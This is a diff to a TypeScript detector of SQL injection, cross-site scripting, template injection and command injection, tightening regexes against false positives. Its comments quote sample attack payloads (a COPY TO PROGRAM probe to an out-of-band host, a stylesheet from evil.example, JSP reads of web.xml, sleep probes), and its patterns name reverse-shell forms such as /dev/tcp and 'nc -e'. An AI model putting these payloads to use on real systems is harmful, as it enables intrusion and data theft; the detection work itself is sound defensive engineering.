@@ -88,11 +88,14 @@ const OWN_SQL_CALL_GATE = new RegExp(String.raw`(?:${SQL_ONLY_FUNCTIONS.join('|'
 /** SQL injection beyond the token judge (src/insight/sql.ts): names only an attack writes. */
 const SQLI = [
   // (fifty-sixth round) a statement spelt with no blank, MySQL's tokenizer splitting it at a sign and a number's end (`SELECT-1e1FROM`,
-  // `SELECT~1.FROM`, `SELECT-id-1.FROM`) or at `\N` (`SELECT\NFROM`): a filter that looks for `select ` passes it
-  /\bselect(?:[-~+!@][^\s'"]{0,40}?[\d.]|\\n)from(?:[`(\s]|$)/,
-  // (fifty-sixth round) PostgreSQL's COPY to or from a program (`copy (select '') to program 'nslookup x.oast.example'`: the server runs
-  // the command, breakout or not), Oracle's UTL_FILE opening a server script to write (`UTL_FILE.FOPEN('DIR','shell.php','w')`)
-  /\bcopy\b[^;]{0,300}?\b(?:to|from)\s+program\s+(?:e?['"]|\$)|\butl_file\s*\.\s*fopen\s*\([^)]{0,200}?['"][^'"\n]{1,100}\.(?:php\d?|phtml|phar|jspx?|aspx?|cgi|pl|py|sh)['"]\s*,\s*['"][wa]/,
+  // `SELECT~1.FROM`, `SELECT-id-1.FROM`), a closing parenthesis or quote (`SELECT-(1)FROM`, `SELECT-'1'FROM`) or at `\N` (`SELECT\NFROM`,
+  // `SELECT-\NFROM`), the table after a quote, a parenthesis, a comment or a blank: a filter that looks for `select ` passes it (review:
+  // not code's `e.select!=null&&Array.from(e.select)` nor a style's `select~.from`, no digit before the dot)
+  /\bselect(?:[-~+!@(][^\s]{0,40}?)?(?:\d\.?|\\n|\)|')from(?:[`(\s/#{]|--|$)/,
+  // (fifty-sixth round) PostgreSQL's COPY to or from a program that probes or fetches (`copy (select '') to program 'nslookup x.oast…'`,
+  // `… PROGRAM U&'curl …'`: the server runs it, breakout or not; review: not a backup's `TO PROGRAM 'gzip > /backups/…'`), Oracle's
+  // UTL_FILE opening a web server's script to write (`UTL_FILE.FOPEN('DIR','shell.php','w')`; a DBA's `.sh` or `.pl`, a log, are none)
+  /\bcopy\b[\s\S]{0,300}?\b(?:to|from)\s*program\s*(?:u&|e)?['"$]{1,2}\s*(?:nslookup|curl|wget|nc|ncat|bash|sh|python\d?|perl|ruby|php|ping|dig|id|whoami|powershell|cmd)\b|\butl_file\s*\.\s*fopen\s*\([^)]{0,200}?['"][^'"\n]{1,100}\.(?:php\d?|phtml|phar|jspx?|aspx?|cgi)['"]\s*,\s*['"][wa]/,
   // (fifty-first round's review) a whole value of a number, `or` and a number that is true (`0 OR 1`, `-1 OR true`, `1 or 1`): spliced
   // into a numeric comparison, every row (`WHERE id = 0 OR 1`); prose's `1 or 2` names two choices and is left (the second another number
   // than the first, the first neither 0 nor negative)
@@ -220,6 +223,9 @@ const DJANGO_URL_TAG = String.raw`\{%-?\s{1,4}url\s{1,4}(?:"[\w:.-]{1,80}"|'[\w:
  */
 const SITE_REFRESH = String.raw`\s{1,4}http-equiv\s{0,4}=\s{0,4}(?:"refresh"|'refresh'|refresh)\s{1,4}content\s{0,4}=\s{0,4}(?:"\d{1,4}\s{0,4}[;,]\s{0,4}url\s{0,4}=\s{0,4}(?:\/(?![/\\])(?:(?!\/\/|\.\.?\/|%2e)[\w./#?=%~+-]){0,300}|${DJANGO_URL_TAG})"|'\d{1,4}\s{0,4}[;,]\s{0,4}url\s{0,4}=\s{0,4}(?:\/(?![/\\])(?:(?!\/\/|\.\.?\/|%2e)[\w./#?=%~+-]){0,300}|${DJANGO_URL_TAG})')\s{0,4}\/?>`
 /** Cross-site scripting: markup or script that a browser would run. */
+/** (fifty-sixth round) a tag's attributes, quoted values holding `>` (LINKED_SHEET, the JSP actions) */
+const TAG_BODY = String.raw`(?:[^<>"']|"[^"<]{0,400}"|'[^'<]{0,400}'){0,40}?`
+const LINKED_SHEET = new RegExp(String.raw`^(?:\s{0,8}|[^<]{0,200}?['"\x60]\s{0,4}\/?>\s{0,8})<link\b(?=${TAG_BODY}[\s"'/]rel\s*=\s*['"]?[^'">]{0,200}?\bstylesheet\b)(?!${TAG_BODY}[\s"'/]href\s*=\s*['"]?[\x00-\x20]{0,8}(?:https?:)?\/\/(?:fonts\.(?:googleapis\.com|bunny\.net)|use\.typekit\.net)\/)${TAG_BODY}[\s"'/]href\s*=\s*['"]?[\x00-\x20]{0,8}(?:[a-z][\w+.-]{0,20}:|[/\\]{2})`)
 const XSS = [
   /<\/?script\b|<\/?scr\W{0,3}ipt\b|<\/?scr\s*script\s*ipt\b/,
   // a blank written out counts (<img\nsrc=x\nonerror=…>, for a string that is decoded before it is written)
@@ -237,8 +243,10 @@ const XSS = [
   new RegExp(String.raw`<meta\b(?!${SITE_REFRESH})[^>]{0,300}?(?:url\s*=\s*['"]?\s*(?:javascript|vbscript|data):|http-equiv\s*=\s*['"]?(?:refresh|link|set-cookie)\b)`),
   // (fifty-sixth round) a style sheet linked from another origin (`"><link rel="stylesheet" href="http://evil.example/x.css">`): its
   // selectors read the page's attributes out through their background URLs, as an imported one's do (`<style>@import url(//evil/x.css)`);
-  // a scheme's or a protocol-relative URL, in either order of the attributes; not Google Fonts' style sheet (as FONT_IMPORT)
-  /<link\b(?=[^<>]{0,200}?\brel\s*=\s*['"]?\s*(?:[a-z-]{1,20}\s{1,4}){0,3}stylesheet\b)(?![^<>]{0,200}?\bhref\s*=\s*['"]?\s*(?:https?:)?\/\/fonts\.googleapis\.com\/css2?\?)[^<>]{0,200}?\bhref\s*=\s*['"]?\s*(?:[a-z][\w+.-]{0,20}:|[/\\]{2})/,
+  // a scheme's or a protocol-relative URL, the attributes in any order, quoted values holding `>`. Review: only where the value opens on
+  // the link, after a broken-out attribute if any — a whole page, an e-mail or a document's sentence that links a CDN's sheet is the
+  // page's own — and not a font service's sheet (Google Fonts, Bunny Fonts, Adobe Fonts)
+  LINKED_SHEET,
   // (twenty-fifth round: a scheme's name then a dot is a host's, `href="http://livescript.net"`, `https://javascript.info`; forty-second
   // round: nor one a letter or a digit goes on from, a longer name's start, `values={constants.javaScriptSpecLanguages}` in MDX)
   /<[a-z][a-z0-9:-]{0,20}\b[^<>]{0,400}?\b(?:src|href|dynsrc|lowsrc|background|action|formaction|data|code|codebase|xlink:href|poster|values|to|from|by|folder|srcdoc)\s*=\s*(?:['"`]\s*)?[^'"`>\s]{0,20}?(?:(?:javascript|vbscript|livescript)(?!\.[a-z]|[a-z0-9_])|data\s*:\s*text\/html|&\{)|<[a-z][a-z0-9:-]{0,20}\b[^<>]{0,400}?=\s*['"]?&\{|<(?:link|iframe|object|embed|script|frame)\b[^>]{0,300}?\b(?:href|src|data)\s*=\s*['"]?\s*data\s*:/,
@@ -956,11 +964,16 @@ const PROCESS_SUBSTITUTION = /(?:^|[\s=:,{])[<>]\(|(?:^|\s)=\(/
 const CODE_INDEX = /(?:(?<![\w\]])|(?<=(?:\$[a-z_]\w{0,40}|->[a-z_]\w{0,40})(?:\[[^\]\n]{0,40}\]){0,3}))\[[ \t]{0,4}\$[a-z_]\w{0,40}[ \t]{0,4}\](?!=)/g
 /** cmd.exe run on a command line (`cmd /c …`, `cmd.exe /k …`) */
 const CMD_RUN = /\bcmd(?:\.exe)?\s+\/[ck]\s/
+/**
+ * (fifty-sixth round) A value that opens on a pause of seconds and chains a probe's command to it (`sleep 10 && echo vulnerable`,
+ * `sleep 5;id`, `sleep 10 & echo x`): a timing probe. Not in a command field's own line nor in a program's source (left out of
+ * PROGRAM_RCE and CODE_RCE: `"wait-db": "sleep 5 && echo ready"` in a package's scripts); not prose's `sleep 8h; eat well` nor a
+ * tracker's `Sleep 7.5h | Type: deep | id: 4471` (the probe's name followed by a blank, a separator or the end).
+ */
+const SLEEP_PROBE = /^\s*sleep\s+\d{1,4}(?:\.\d{1,3})?[smh]?\s*(?:&&?|\|\|?|;|\n)\s*(?:echo|printf|id|whoami|uname|hostname|pwd|ls|cat|ps|ping|nslookup|dig|curl|wget|sleep|expr|sh|bash)(?=[\s;&|]|$)/
 const RCE = [
   RFI,
-  // (fifty-sixth round) a value that opens on a pause of seconds and chains a probe's command to it (`sleep 10 && echo vulnerable`,
-  // `sleep 5;id`): a timing probe (a command field's own line and a script are read elsewhere; prose's `sleep 8h; eat well` names no command)
-  /^\s*sleep\s+\d{1,4}(?:\.\d{1,3})?[smh]?\s*(?:&&|\|\|?|;)\s*(?:echo|printf|id|whoami|uname|hostname|pwd|ls|dir|cat|type|ps|ping|nslookup|dig|curl|wget|sleep|expr|sh|bash)\b/,
+  SLEEP_PROBE,
   PARAMETER_CUTS,
   /\/dev\/tcp\/\d|\bbash\s+-i\s*>&|\bnc(?:at)?\s+(?:-[a-z]+\s+){0,4}-e\s+\/bin|\bmkfifo\s+\/tmp/,
   // (found by the forty-fifth round's fifth review, older than the round) zsh's glob qualifiers that run a command for each file a glob
@@ -1017,10 +1030,12 @@ const JSP_OWN_SETTINGS = String.raw`page(?:[ \t]{1,4}(?:(?:language|session|isel
 /** The pattern with `JSP_OWN_SETTINGS` where its source names it. */
 const withJspSettings = (re: RegExp): RegExp => new RegExp(re.source.replace('JSP_OWN_SETTINGS', JSP_OWN_SETTINGS), re.flags)
 const SSTI = [
-  // (fifty-sixth round) JSP's XML syntax for what `<% %>` and `<%@ include %>` do — a page included or forwarded to, a scriptlet, an
-  // expression, a declaration, a bean of any class (`<jsp:include page="/WEB-INF/web.xml"/>`, `<jsp:expression>7*7</jsp:expression>`) —
-  // and JSTL's import of any URL or file (`<c:import url="/WEB-INF/web.xml"/>`)
-  /<jsp:(?:include|forward|directive\s{0,4}\.\s{0,4}include|scriptlet|expression|declaration|usebean)\b|<c:import\b[^<>]{0,200}?\burl\s*=/,
+  // (fifty-sixth round) JSP's XML syntax for what `<% %>` and `<%@ include %>` do: a page included or forwarded to that is the application's
+  // configuration, a class or a system file (`<jsp:include page="/WEB-INF/web.xml"/>`, `<c:import url="../../etc/passwd"/>`), and a
+  // scriptlet, an expression or a declaration where the value opens on it (`<jsp:expression>7*7</jsp:expression>`, after a broken-out
+  // attribute if any). Review: not a JSP page's own includes of its views (`<jsp:include page="/WEB-INF/views/header.jsp"/>`), beans or
+  // imports, nor a document naming the actions (`Use <jsp:useBean> to …`)
+  new RegExp(String.raw`<(?:jsp:(?:include|forward|directive\s{0,4}\.\s{0,4}include)|c:import)\b${TAG_BODY}[\s"'/](?:page|file|url)\s*=\s*['"]\s*(?:file:|[^'"<>]{0,200}?\/(?:web-inf|meta-inf)\/(?:web\.xml|[^'"<>]{0,100}\.(?:xml|properties|class|jar|conf|ya?ml|mf))['"]|(?:\.\.[/\\]){1,16}|\/(?:etc|proc)\/|[a-z]:[/\\])|^(?:\s{0,8}|[^<]{0,200}?['"\x60]\s{0,4}\/?>\s{0,8})<jsp:(?:scriptlet|expression|declaration)\b`),
   // (forty-eighth round) Handlebars' partial named by a climb of two levels or more (`{{>../../etc/passwd}}`; not `{{> ../partials/header}}`), and Mako's or Cheetah's Python introspection
   // (`${dir()}`, `${locals()}`): the template reads a file or lists its own scope
   /\{\{\s{0,4}>\s{0,4}['"]?(?:\.{1,2}[/\\]){0,4}\.\.[/\\]\.\.[/\\]|\$\{\s{0,4}(?:dir|locals|globals|vars)\s{0,4}\(\s{0,4}\)\s{0,4}\}/,
@@ -1543,7 +1558,7 @@ const FILE_NAMED_KEY = /[\w-]\.(?:js|css|html|xml|pdf)$/
 /** What a whole shell program's own syntax is (`${${(z)x}[1]}`, `${LBUFFER:0:1}`): the rest of RCE judges one. */
 // (forty-sixth round: nor cmd.exe run on a command line, `cd tests && start cmd /c npm run serve-test .` in a package's scripts, as `bash -c`
 // never was: a whole program's or a command field's own command line may start a shell; what stays is a download or a reverse shell)
-const PROGRAM_RCE = RCE.filter((re) => re !== PHP_COMPLEX && re !== VARIABLE_SLICE && re !== RCE_CALLS && re !== RFI && re !== PARAMETER_CUTS && re !== CMD_RUN)
+const PROGRAM_RCE = RCE.filter((re) => re !== SLEEP_PROBE && re !== PHP_COMPLEX && re !== VARIABLE_SLICE && re !== RCE_CALLS && re !== RFI && re !== PARAMETER_CUTS && re !== CMD_RUN)
 /**
  * (thirty-eighth round) A Bicep file's (BICEP_DECLARATION): its strings' `${…}` interpolate its own functions, `'${replace('-..--..-', '.',
  * '-')}'`; PHP's complex syntax with any other function, or its `@` (`${@print(md5(1))}`), is still read, and so is the rest
@@ -1564,7 +1579,7 @@ const BICEP_RCE = RCE.map((re) => (re === PHP_COMPLEX ? BICEP_COMPLEX : re))
  * interpreter one-liners and PHP's sinks are payloads there.
  */
 // (twenty-third round: and PHP's complex syntax with any function, `${name()}`, which is Kotlin's, Groovy's and JavaScript's string template calling its own)
-const CODE_RCE = RCE.filter((re) => re !== RCE_CALLS && re !== RFI && re !== PARAMETER_CUTS && re !== PHP_COMPLEX && !/getruntime|__import__|child_process/.test(re.source))
+const CODE_RCE = RCE.filter((re) => re !== SLEEP_PROBE && re !== RCE_CALLS && re !== RFI && re !== PARAMETER_CUTS && re !== PHP_COMPLEX && !/getruntime|__import__|child_process/.test(re.source))
 /**
  * (twenty-eighth round) A Perl program's source (`package Foo;`, `use strict;`) calls `system` and `exec` as Python's calls
  * `subprocess`: its own process calls, not PHP's sinks.
